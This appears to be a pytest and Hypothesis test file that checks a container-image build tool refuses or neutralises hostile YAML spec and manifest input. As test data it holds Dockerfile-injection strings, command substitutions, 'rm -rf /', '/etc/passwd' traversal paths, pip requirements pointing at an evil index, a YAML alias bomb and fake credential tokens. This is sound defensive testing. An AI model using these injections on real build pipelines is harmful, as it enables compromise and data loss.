"""image.yaml and the manifest are hostile input: every attack class an adversarial run
found is refused with exit 2 naming the field and the fix, or rendered harmlessly as data.
Includes a Hypothesis fuzz over both files: no traceback, no file touched outside the
workspace, no Dockerfile instruction the spec did not intend."""
from __future__ import annotations

import os
import re
from pathlib import Path

import pytest
import yaml
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

pytestmark = pytest.mark.unit


def _refused(run_cli, ws, name="smoke", *extra) -> str:
    code, out, err = run_cli(ws.plan(name, *extra))
    assert code == 2, out + err
    assert "Traceback" not in out + err and "fix:" in err
    return err


def _edit(ws, name, change):
    data = ws.load(name)
    change(data)
    ws.save(name, data)


# ---- 1. the build spec is data, never code ---------------------------------------------

@pytest.mark.parametrize("key", ["x\nRUN touch /pwned", "io.example key", "Upper.Case", "-lead", "a..b", "a/b",
                                 "x" * 300, ""])
def test_label_keys_must_follow_the_key_grammar(ws, run_cli, key):
    _edit(ws, "smoke", lambda d: d.setdefault("labels", {}).update({key: "v"}))
    assert "labels" in _refused(run_cli, ws)


@pytest.mark.parametrize("key", ["io.ftimage.plan", "io.ftimage.kernels", "io.ftimage.lock.sha256",
                                 "org.opencontainers.image.revision", "org.opencontainers.image.title"])
def test_labels_the_build_sets_cannot_be_overridden(ws, run_cli, key):
    _edit(ws, "smoke", lambda d: d.setdefault("labels", {}).update({key: "forged"}))
    err = _refused(run_cli, ws)
    assert f"labels.{key}" in err and "the build sets this label itself" in err


def test_label_values_are_data_not_dockerfile_text(ws):
    from build.context.render import image_labels, render_dockerfile
    from build.resolve import load_plan

    hostile = '"\nRUN touch /pwned\nLABEL x="$HOME ${PATH} `id` \\'
    _edit(ws, "smoke", lambda d: d.update(description=hostile, labels={"io.example.note": hostile}))
    plan = load_plan(ws.image("smoke"), ws.manifest)
    bases = {"builder": "b:1", "runtime": "r:1"}
    dockerfile = render_dockerfile(plan, bases, 0)
    assert "pwned" not in dockerfile and "$HOME ${PATH}" not in dockerfile
    labels = image_labels(plan, bases, 0)
    # passed to the engine through the API, verbatim: nothing expands or splits it
    assert labels["io.example.note"] == hostile and labels["org.opencontainers.image.description"] == hostile


# Credential-shaped stand-ins, assembled at run time (join is not constant-folded) so that
# no token-shaped literal sits in the source or its bytecode.
FAKE_GITHUB_TOKEN = "".join(["ghp_", "0123456789abcdefghijklmnopqrstuvwxyzAB"])
FAKE_AWS_KEY = "".join(["AKIA", "ABCDEFGHIJKLMNOP"])
FAKE_HF_TOKEN = "".join(["hf_", "abcdefghijklmnopqrstuvwxyzABCDEFGH"])


@pytest.mark.parametrize("field, value", [
    ("description", f"deploy with {FAKE_GITHUB_TOKEN}"),
    ("labels", {"io.example.token": FAKE_AWS_KEY}),
    ("finetune", {"defaults": {"model": {"path": FAKE_HF_TOKEN}}}),
])
def test_secrets_are_refused_in_every_free_text_field(ws, run_cli, field, value):
    _edit(ws, "smoke", lambda d: d.update({field: value}))
    assert "secret" in _refused(run_cli, ws).lower()


def test_alias_bomb_is_refused_by_construction(ws, run_cli):
    bomb = ['a: &a ["lol","lol","lol","lol","lol","lol","lol","lol","lol"]']
    for i in range(1, 9):
        bomb.append(f"{chr(97 + i)}: &{chr(97 + i)} [{','.join(['*' + chr(96 + i)] * 9)}]")
    text = (ws.image("smoke") / "image.yaml").read_text() + "\n".join(bomb) + "\n"
    (ws.image("smoke") / "image.yaml").write_text(text)
    assert "anchors and aliases" in _refused(run_cli, ws)


def test_oversized_documents_and_strings_are_refused(ws, run_cli):
    path = ws.image("smoke") / "image.yaml"
    original = path.read_text()
    path.write_text(original + "# " + "x" * (1 << 20) + "\n")
    assert "1 MiB" in _refused(run_cli, ws)
    path.write_text(original + f"description: {'y' * (64 * 1024 + 1)}\n")
    assert "limit 65536" in _refused(run_cli, ws)
    ws.manifest.write_text(ws.manifest.read_text() + "# " + "z" * (1 << 20) + "\n")
    path.write_text(original)
    assert "1 MiB" in _refused(run_cli, ws)


@pytest.mark.parametrize("name", ["Smoke", "../smoke", "a b", "smoke:latest", "-smoke", "smoke..x", "x" * 200])
def test_image_name_must_be_a_docker_reference(ws, run_cli, name):
    _edit(ws, "smoke", lambda d: d.update(name=name))
    assert ": name: " in _refused(run_cli, ws)


@pytest.mark.parametrize("field, value", [("uid", 1), ("uid", 999), ("uid", 2 ** 31 - 1), ("uid", -5),
                                          ("gid", 5), ("gid", 2 ** 31)])
def test_uid_and_gid_are_checked_at_plan_time(ws, run_cli, field, value):
    _edit(ws, "smoke", lambda d: d["runtime"].update({field: value}))
    assert f"runtime.{field}" in _refused(run_cli, ws)


def test_attention_and_model_family_must_be_known(ws, run_cli):
    _edit(ws, "smoke", lambda d: d["runtime"].update(attn_implementation="flash_attention_9"))
    assert "runtime.attn_implementation" in _refused(run_cli, ws)
    ws.reset()
    _edit(ws, "smoke", lambda d: d.update(model_family="../../etc"))
    assert "model_family" in _refused(run_cli, ws)


@pytest.mark.parametrize("requirement", [
    "--index-url http://evil.example/simple", "-r other.txt", "transformers=5.18.0", "transformers",
    "einops==0.8.2; python_version < '3'", "evil @ https://evil.example/evil.whl", "transformers==5.18.0 --hash=x",
    "tokenizers[extra]==0.23.3 \\\n--index-url http://evil", "",
])
def test_requirements_go_through_packaging(ws, run_cli, requirement):
    _edit(ws, "smoke", lambda d: d["python"]["requirements"].append(requirement))
    assert "python.requirements[" in _refused(run_cli, ws)


# ---- 2. paths stay where they belong -----------------------------------------------------

@pytest.mark.parametrize("filename", ["../../../etc/passwd", "a/b.tar.gz", "..", ".hidden", "x\x00.tar.gz"])
def test_manifest_file_names_are_bare_names(ws, run_cli, filename):
    manifest = ws.load_manifest()
    manifest["kernels"]["causal-conv1d"]["source"]["sdist"]["filename"] = filename
    ws.save_manifest(manifest)
    assert "filename" in _refused(run_cli, ws, "qwen27b")


def test_cache_paths_never_leave_the_cache(tmp_path):
    from build.cache import CacheLayout

    cache = CacheLayout(tmp_path / "cache")
    for name in ("../x", "a/../../x", "..", "", "x\\y"):
        with pytest.raises(ValueError):
            cache.source_path("a" * 64, name)


def test_render_into_a_foreign_folder_deletes_nothing(tmp_path):
    from build.context import render_target
    from contracts import folder_guard

    dest = tmp_path / "checkout"
    (dest / ".git").mkdir(parents=True)
    (dest / "mine.txt").write_text("keep")
    staging = tmp_path / "staging"
    staging.mkdir()
    (staging / "Dockerfile").write_text("FROM x\n")
    with pytest.raises(folder_guard.UnsafeFolder) as info:
        render_target.publish_render(staging, dest)
    assert "--force" in info.value.fix
    assert sorted(p.name for p in dest.iterdir()) == [".git", "mine.txt"]
    # --force writes the context files beside the user's, deleting nothing
    staging.mkdir()
    (staging / "Dockerfile").write_text("FROM x\n")
    render_target.publish_render(staging, dest, force=True)
    assert (dest / "mine.txt").read_text() == "keep" and (dest / ".git").is_dir() and (dest / "Dockerfile").exists()


@pytest.mark.parametrize("option", ["--out", "--cache", "--render"])
def test_out_cache_and_render_refuse_a_file_or_a_foreign_folder(ws, run_cli, tmp_path, option):
    a_file = tmp_path / "a-file"
    a_file.write_text("x")
    foreign = tmp_path / "foreign"
    foreign.mkdir()
    (foreign / "notes.txt").write_text("mine")
    for target in (a_file, foreign):
        argv = [str(ws.image("smoke")), "--manifest", str(ws.manifest), option, str(target)]
        if option != "--cache":
            argv += ["--cache", str(tmp_path / "cache")]
        if option == "--cache":
            argv += ["--render", str(tmp_path / "new-render")]
        # refused before any engine, download or render work: exit 2, nothing written
        code, out, err = run_cli(argv)
        assert code == 2, out + err
        assert "fix:" in err and "Traceback" not in err
    assert a_file.read_text() == "x" and [p.name for p in foreign.iterdir()] == ["notes.txt"]
    assert not (tmp_path / "new-render").exists()


def test_claim_refuses_a_symlink_and_adopts_an_empty_folder(tmp_path):
    from contracts import folder_guard

    real = tmp_path / "real"
    real.mkdir()
    (tmp_path / "link").symlink_to(real)
    with pytest.raises(folder_guard.UnsafeFolder):
        folder_guard.claim(tmp_path / "link", folder_guard.OUTPUT_MARKER, what="output folder", option="--out")
    folder_guard.claim(real, folder_guard.OUTPUT_MARKER, what="output folder", option="--out")
    assert (real / folder_guard.OUTPUT_MARKER).is_file()


# ---- fuzz: hostile strings anywhere in a valid spec ---------------------------------------

HOSTILE = st.sampled_from([
    "x\nRUN touch /pwned", "\r\nUSER root", "$HOME", "${PATH}", "`id`", "$(id)", '"', "'", "\\", "../../outside/x",
    "/etc/passwd", "a\x00b", "\u2028RUN id", "--index-url=http://evil", "; rm -rf /", "{{ venv }}", "{% raw %}",
    FAKE_GITHUB_TOKEN,
]) | st.text(max_size=12)
PATHS_IMAGE = [("name",), ("description",), ("labels", "io.example.a"), ("runtime", "user"),
               ("python", "requirements", 0), ("finetune", "config_file"), ("model_family",),
               ("runtime", "attn_implementation"), ("bases", "runtime", "bootstrap"), ("toolchain",)]
PATHS_MANIFEST = [("kernels", "causal-conv1d", "source", "sdist", "filename"),
                  ("kernels", "causal-conv1d", "source", "sdist", "url"),
                  ("kernels", "causal-conv1d", "import_name"), ("kernels", "causal-conv1d", "version")]


def _put(tree, path, value):
    node = tree
    for key in path[:-1]:
        node = node.setdefault(key, {}) if isinstance(node, dict) else node[key]
    if isinstance(node, list):
        node[path[-1]] = value
    else:
        node[path[-1]] = value


def _instructions(dockerfile: str) -> list[str]:
    """The instruction keywords, in order (continuation lines belong to their instruction)."""
    out, continued = [], False
    for line in dockerfile.splitlines():
        stripped = line.strip()
        if not continued and stripped and not stripped.startswith("#"):
            out.append(stripped.split()[0].upper())
        continued = stripped.endswith("\\")
    return out


def _snapshot(root: Path) -> dict[str, float]:
    return {str(p): p.stat().st_mtime for p in root.rglob("*")}


@settings(max_examples=120, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture])
@given(edits=st.lists(st.tuples(st.sampled_from(PATHS_IMAGE), HOSTILE), min_size=1, max_size=3),
       manifest_edit=st.none() | st.tuples(st.sampled_from(PATHS_MANIFEST), HOSTILE))
def test_fuzz_hostile_fields_never_escape(tmp_path_factory, edits, manifest_edit):
    from build.cli.main import main
    from build.context.render import render_dockerfile
    from build.resolve import load_plan
    from build.spec import SpecErrors
    from tests.build.conftest import Workspace

    root = tmp_path_factory.mktemp("fuzz")
    outside = root / "outside"
    outside.mkdir()
    (outside / "x").write_text("untouched")
    (root / "ws").mkdir()
    ws = Workspace(root / "ws")
    baseline = _instructions(render_dockerfile(load_plan(ws.image("qwen27b"), ws.manifest), {"builder": "b:1",
                                                                                              "runtime": "r:1"}, 0))
    data = ws.load("qwen27b")
    for path, value in edits:
        _put(data, path, value)
    ws.save("qwen27b", data)
    if manifest_edit:
        manifest = ws.load_manifest()
        _put(manifest, *manifest_edit)
        ws.save_manifest(manifest)
    before = _snapshot(outside)

    import contextlib
    import io
    out, err = io.StringIO(), io.StringIO()
    with contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
        code = main(ws.plan("qwen27b"))
    assert code in (0, 2) and "Traceback" not in out.getvalue() + err.getvalue()
    assert _snapshot(outside) == before and (outside / "x").read_text() == "untouched"
    assert sorted(p.name for p in root.iterdir()) == ["outside", "ws"]
    if code == 0:
        try:
            plan = load_plan(ws.image("qwen27b"), ws.manifest)
        except SpecErrors:
            pytest.fail("the CLI accepted a spec that load_plan refuses")
        dockerfile = render_dockerfile(plan, {"builder": "b:1", "runtime": "r:1"}, 0)
        assert _instructions(dockerfile) == baseline, dockerfile
        assert "pwned" not in dockerfile and "evil" not in dockerfile


def test_fuzz_sees_the_dockerfile_structure():
    """The fuzz's instruction parser is not blind: an injected line changes the sequence."""
    clean = "FROM a\nRUN x \\\n && y\nUSER 1\n"
    assert _instructions(clean) == ["FROM", "RUN", "USER"]
    assert _instructions(clean.replace("USER 1", "USER 1\nRUN touch /pwned")) == ["FROM", "RUN", "USER", "RUN"]


def test_workspace_helper_restores_specs(ws):
    _edit(ws, "smoke", lambda d: d.update(name="changed"))
    ws.reset()
    assert ws.load("smoke")["name"] == "smoke" and os.path.exists(ws.manifest)
    assert yaml.safe_load(ws.manifest.read_text())["kernels"]
    assert re.match(r"[a-z]", ws.load("qwen27b")["name"])
